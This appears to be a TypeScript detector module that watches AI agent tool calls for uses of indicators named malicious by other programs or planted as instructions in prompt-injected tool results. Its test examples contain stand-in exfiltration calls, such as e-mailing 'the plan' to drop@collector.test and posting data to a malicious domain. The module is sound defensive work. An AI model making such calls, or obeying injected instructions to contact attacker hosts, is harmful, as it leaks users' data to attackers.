/** Finds calls that use an address, a domain or a file which another program, or an earlier result, made known as bad. */
import { SEVERITIES, SEVERITY_RISK, type Severity, severityRank } from '../../core/alert.ts';
import type { ProvenanceEvent } from '../../core/event.ts';
import { isNews, keep } from '../bounded.ts';
import { parameterRole } from '../catalog/destinations.ts';
import { defineCorrelator, type Extract, type ExtractContext, type Match, type MatchStep } from '../detector.ts';
import { externalOf } from '../event_fields.ts';
import { after, call, elsewhere, prompt, type RawEvent } from '../example_events.ts';
import type { EventRef } from '../lineage/edge.ts';
import { extractValues } from '../lineage/extract_values.ts';
import { createPlacer } from '../lineage/sentences.ts';
import { namedIndicator, usedIndicators, valueIndicators } from '../supply/indicators.ts';
import { inLogOrder, serverName, shorten } from '../wording.ts';

/** Why something is held for bad: the word of another program, or the result that an attacker wrote in. */
type Ground = 'malicious' | 'suspicious' | 'injected';

type Body =
  | { kind: 'named'; digest: string; preview: string; ground: Ground; source: string; sure: boolean }
  | { kind: 'cleared'; digest: string; source: string }
  | { kind: 'used'; digest: string; preview: string; path: string; destination: boolean; sends: boolean };

interface Bad {
  digest: string;
  preview: string;
  ground: Ground;
  source: string;
  sure: boolean;
  session_id: string;
  event: EventRef;
}

interface Use {
  digest: string;
  path: string;
  destination: boolean;
  sends: boolean;
  session_id: string;
  event: EventRef;
}

interface State {
  bad: Bad[];
  uses: Use[];
  told: string[];
}

interface Detail {
  preview: string;
  ground: Ground;
  source: string;
  server: string;
  tool: string;
  path: string;
  sends: boolean;
  /** The use came first, and was only now known to be bad. */
  afterwards: boolean;
}

/**
 * Indicators are kept in so many states, each with many of them, so that the addresses of ordinary calls cannot push
 * them out of memory, as they could if each had a state of its own.
 */
const BUCKETS = 1_024;
const BAD_MAX = 256;
const USES_MAX = 32;
const TOLD_MAX = 256;
const HELD_MAX = 16;
/** The rule whose matches show that a result was written in by an attacker: surely when they weigh more than a doubt. */
const INJECTION_RULES: readonly string[] = ['injection_in_result'];
const SURE_MIN = 0.5;
const DAY_MS = 86_400_000;

export default defineCorrelator<State, Body, Detail>({
  metadata: {
    id: 'known_bad_indicator',
    version: 1,
    title: 'Call uses what is known as bad',
    description: {
      detects:
        'An address, domain, URL, e-mail address, file or user in the parameters of a call of anybody in the tenant that ' +
        'another program named malicious or suspicious, before or after the call; and one that stood in an order inside of ' +
        'a result which was flagged as an injection in another session.',
      misses:
        'Indicators behind a redirection or a shortened address, encoded ones, and more than the state holds: ' +
        `${BUCKETS * BAD_MAX} indicators of one tenant, and the last ${BUCKETS * USES_MAX} uses.`,
    },
    severity: 'high',
    status: 'experimental',
    tags: ['AML.T0086', 'AML.T0053', 'AML.T0051.001', 'ASI01', 'ASI02', 'LLM01', 'MCP10'],
    references: [
      'https://atlas.mitre.org/techniques/AML.T0086',
      'https://atlas.mitre.org/techniques/AML.T0053',
      'https://oasis-open.github.io/cti-documentation/stix/intro',
    ],
    false_positives: [
      'An analyst’s agent that looks an indicator up: reported as medium.',
      'A shared host on which one page was bad.',
      'An address that an injected text names although it is honest.',
    ],
    runbook: [
      'Read who named the indicator, how surely, and when.',
      'See what the call sent there; treat it as disclosed.',
      'Find what brought the indicator into the session: a prompt, a result, or the model?',
      'Block it at the network, and look for its other uses in the tenant.',
    ],
  },
  watches: ['external.signal', 'tool.call', 'tool.result', 'resource.read'],
  group_by: 'indicator',
  window_ms: 30 * DAY_MS,
  initial: () => ({ bad: [], uses: [], told: [] }),

  extract(event, context): Extract<Body>[] {
    const external = externalOf(event);
    if (external !== undefined) {
      const indicator = namedIndicator(external);
      if (indicator === undefined) return [];
      const { verdict, source, confidence = 1 } = external;
      const { digest, preview } = indicator;
      const bad = verdict === 'malicious' || verdict === 'suspicious';
      const body: Body = bad
        ? { kind: 'named', digest, preview, ground: verdict, source, sure: confidence >= SURE_MIN }
        : { kind: 'cleared', digest, source };
      return [{ key: bucketOf(digest), body }];
    }
    if (event.type !== 'tool.call') return heldByResult(event, context);
    const sends = context.call?.egress === true && !context.call.fetch;
    return usedIndicators(event).map(({ digest, preview, path, destination, url }) => ({
      key: bucketOf(digest),
      body: {
        kind: 'used',
        digest,
        preview,
        path,
        destination,
        sends: sends || (destination && url),
      },
    }));
  },

  step(state, { body, event, session_id }): Match<Detail>[] {
    if (body.kind === 'cleared') {
      state.bad = state.bad.filter((bad) => bad.digest !== body.digest || bad.source !== body.source);
      return [];
    }
    if (body.kind === 'used') {
      const { kind: _, preview: __, ...use } = body;
      const fresh = { ...use, session_id, event };
      keep(state.uses, fresh, USES_MAX);
      return state.bad.filter(({ digest }) => digest === body.digest).flatMap((bad) => told(state, bad, fresh, false));
    }
    const { kind: _, ...named } = body;
    const fresh = { ...named, session_id, event };
    state.bad = state.bad.filter((bad) => bad.digest !== body.digest || bad.source !== body.source);
    keep(state.bad, fresh, BAD_MAX);
    if (body.ground === 'injected') return [];
    return state.uses.filter(({ digest }) => digest === body.digest).flatMap((use) => told(state, fresh, use, true));
  },

  explain({ steps, detail: { preview, ground, source, server, tool, path, sends, afterwards } }) {
    const what = shorten(preview, 80);
    const call = `${shorten(tool, 64)} on ${serverName(server)}`;
    const why =
      ground === 'injected'
        ? `${what} stood in an order inside of a result of ${shorten(source, 80)}, which was flagged as an injection.`
        : `${shorten(source, 80)} names ${what} ${ground}.`;
    const effect = sends ? ' The call goes there.' : '';
    const order = afterwards ? ' The call came first.' : '';
    return {
      title: `${call} uses ${what}, which is known as bad`,
      reason: `Parameter ${shorten(path, 80)} of ${call} holds ${what}. ${why}${effect}${order}`,
      evidence: steps,
    };
  },

  examples: [
    {
      name: 'A file is sent to an address that another program calls malicious',
      fires: true,
      severity: 'high',
      events: [
        signal('email', 'drop@collector.test', 'malicious'),
        call('mail', 'send_email', { to: 'Drop@Collector.test', body: 'the plan' }),
      ],
    },
    {
      name: 'A host below a malicious domain, by somebody else, days later',
      fires: true,
      severity: 'high',
      events: [
        signal('domain', 'collector.test', 'malicious'),
        after(
          400_000_000,
          elsewhere('other', call('web', 'post_form', { url: 'https://eu.drop.collector.test/in', data: 'x' }), {
            user_id: 'rob@example.com',
          }),
        ),
      ],
    },
    {
      name: 'The verdict comes after the call',
      fires: true,
      severity: 'high',
      events: [
        call('mail', 'send_email', { to: 'drop@collector.test', body: 'the plan' }),
        after(7_200_000, signal('email', 'drop@collector.test', 'malicious')),
      ],
    },
    {
      name: 'An address that is only suspicious',
      fires: true,
      severity: 'medium',
      events: [
        signal('address', '203.0.113.9', 'suspicious'),
        call('web', 'post_form', { url: 'http://203.0.113.9/a' }),
      ],
    },
    {
      name: 'An analyst looks an address up',
      fires: true,
      severity: 'medium',
      events: [signal('address', '203.0.113.9', 'malicious'), call('intel', 'get_reputation', { ip: '203.0.113.9' })],
    },
    {
      name: 'Near miss: a domain that only ends alike',
      fires: false,
      events: [
        signal('domain', 'collector.test', 'malicious'),
        call('web', 'post_form', { url: 'https://notcollector.test/' }),
      ],
    },
    {
      name: 'Near miss: the verdict was taken back',
      fires: false,
      events: [
        signal('email', 'drop@collector.test', 'malicious'),
        signal('email', 'drop@collector.test', 'benign'),
        call('mail', 'send_email', { to: 'drop@collector.test' }),
      ],
    },
    {
      name: 'Near miss: only the prompt names it',
      fires: false,
      events: [
        signal('domain', 'collector.test', 'malicious'),
        prompt('Is collector.test safe?'),
        call('mail', 'list_mails', {}),
      ],
    },
    {
      name: 'Near miss: another address of the same kind',
      fires: false,
      events: [
        signal('email', 'drop@collector.test', 'malicious'),
        call('mail', 'send_email', { to: 'lee@example.com' }),
      ],
    },
  ],
});

function bucketOf(digest: string): string {
  return String(Number.parseInt(digest.slice(0, 8), 16) % BUCKETS);
}

/** What stands in orders inside of a result that was flagged; its other addresses are as honest as they ever were. */
function heldByResult(event: ProvenanceEvent, { signals, content }: ExtractContext): Extract<Body>[] {
  const flagged = signals.filter(
    ({ rule_id, severity }) => INJECTION_RULES.includes(rule_id) && severityRank(severity) >= severityRank('medium'),
  );
  if (flagged.length === 0 || content === undefined) return [];
  const sure = flagged.some(({ match }) => (match.risk ?? 0) > SEVERITY_RISK.low);
  const source = `${event.tool ?? 'a resource'} on ${serverName(event.server ?? '')}`;
  const held = new Map<string, Extract<Body>>();
  for (const segment of content.segments) {
    const place = createPlacer(segment.text, segment.field);
    for (const value of extractValues(segment.text, parameterRole(segment.key))) {
      if (held.size >= HELD_MAX) return [...held.values()];
      if (place(value.start, value.end).occurrence !== 'instruction') continue;
      const [own] = valueIndicators(value.kind, value.value);
      if (own === undefined || held.has(own.digest)) continue;
      const { digest, preview } = own;
      held.set(digest, {
        key: bucketOf(digest),
        body: { kind: 'named', digest, preview, ground: 'injected', source, sure },
      });
    }
  }
  return [...held.values()];
}

function told(state: State, bad: Bad, use: Use, afterwards: boolean): Match<Detail>[] {
  // In the session of the injected result itself, the flow of the data is told by other detectors.
  if (bad.ground === 'injected' && bad.session_id === use.session_id) return [];
  const what = `${bad.digest}\u0000${bad.source}\u0000${use.session_id}\u0000${use.event.tool}`;
  if (!isNews(state.told, what, TOLD_MAX)) return [];
  const steps: MatchStep[] = [
    { event: bad.event, role: bad.ground === 'injected' ? 'This result held it in an order' : 'This names it' },
    { event: use.event, role: 'This call uses it' },
  ];
  return [
    {
      severity: severityOf(bad, use),
      steps: inLogOrder(steps),
      source: bad.source,
      sink_digest: bad.digest,
      detail: {
        preview: bad.preview,
        ground: bad.ground,
        source: bad.source,
        server: use.event.server,
        tool: use.event.tool,
        path: use.path,
        sends: use.sends && use.destination,
        afterwards,
      },
    },
  ];
}

/** Going there is what counts; a mention is a trace. Doubt takes one step away. */
function severityOf({ ground, sure }: Bad, { destination, sends }: Use): Severity {
  const goes = destination && sends;
  const full: Severity = ground === 'malicious' ? (goes ? 'high' : 'medium') : goes ? 'medium' : 'low';
  return sure ? full : (SEVERITIES[severityRank(full) - 1] ?? 'info');
}

function signal(kind: string, value: string, verdict: string): RawEvent {
  return { type: 'external.signal', external: { source: 'mail gateway', kind, value, verdict } };
}
